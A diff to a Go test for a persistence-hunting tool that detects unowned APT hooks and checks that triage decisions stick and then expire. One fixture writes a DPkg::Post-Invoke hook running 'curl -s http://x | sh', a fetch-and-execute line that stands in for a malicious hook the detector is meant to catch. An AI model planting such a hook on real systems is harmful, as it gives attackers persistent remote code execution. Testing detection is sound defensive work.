@@ -12,6 +12,7 @@ import (
 	"time"
 
 	"github.com/pkgpersist/pkgpersist/collector/hunt/hunttest"
+	"github.com/pkgpersist/pkgpersist/collector/report"
 	"github.com/pkgpersist/pkgpersist/queries"
 )
 
@@ -124,11 +125,11 @@ func TestTriageSticks(t *testing.T) {
 		t.Fatal(err)
 	}
 	db := filepath.Join(t.TempDir(), "p.db")
-	hunt := func(extra ...string) []map[string]string {
+	hunt := func(extra ...string) []report.Record {
 		t.Helper()
 		code, out, errs := runCLI(append([]string{"hunt", "--db", db, "--root", root, "--queries", qdir, "--format", "json"}, extra...)...)
 		hunttest.WantClean(t, code, errs)
-		var rows []map[string]string
+		var rows []report.Record
 		if err := json.Unmarshal([]byte(out), &rows); err != nil {
 			t.Fatalf("%v: %s", err, out)
 		}
@@ -139,7 +140,7 @@ func TestTriageSticks(t *testing.T) {
 		code, _, _ := runCLI("diff", "--db", db, "--run", run, "--query", "unowned-hooks", "--fail-on-new", "--format", "csv")
 		return code
 	}
-	if f := hunt(); len(f) != 1 || f[0]["change"] != "new" || !strings.Contains(f[0]["row"], "cache-clean") {
+	if f := hunt(); len(f) != 1 || f[0].Change != "new" || !strings.Contains(f[0].Row["command"], "cache-clean") {
 		t.Fatalf("first hunt: %v", f)
 	}
 	if code := failOnNew("1"); code != 1 {
@@ -167,14 +168,14 @@ func TestTriageSticks(t *testing.T) {
 	if code := failOnNew("1"); code != 0 {
 		t.Fatalf("diff --fail-on-new counts the triaged row: exit %d", code)
 	}
-	if f := hunt("--all"); len(f) != 1 || !strings.Contains(f[0]["row"], "triaged=benign: our cache cleaner (ann, until ") {
+	if f := hunt("--all"); len(f) != 1 || !strings.HasPrefix(f[0].Row["triaged"], "benign: our cache cleaner (ann, until ") {
 		t.Fatalf("--all: %v", f)
 	}
 	// the command changes: a new row, no decision covers it
 	if err := os.WriteFile(hook, []byte(`DPkg::Post-Invoke { "/usr/local/bin/cache-clean; curl -s http://x | sh"; };`+"\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	if f := hunt(); len(f) != 1 || f[0]["change"] != "new" || !strings.Contains(f[0]["row"], "curl") {
+	if f := hunt(); len(f) != 1 || f[0].Change != "new" || !strings.Contains(f[0].Row["command"], "curl") {
 		t.Fatalf("the changed command is not a new finding: %v", f)
 	}
 	if code := failOnNew("4"); code != 1 {
@@ -188,7 +189,7 @@ func TestTriageSticks(t *testing.T) {
 		t.Fatalf("the triaged row is listed again before the decision expired: %v", f)
 	}
 	time.Sleep(time.Until(expires))
-	if f := hunt(); len(f) != 1 || f[0]["change"] != "present" {
+	if f := hunt(); len(f) != 1 || f[0].Change != "present" {
 		t.Fatalf("the decision expired, the finding is not back: %v", f)
 	}
 	if code := failOnNew("1"); code != 1 {
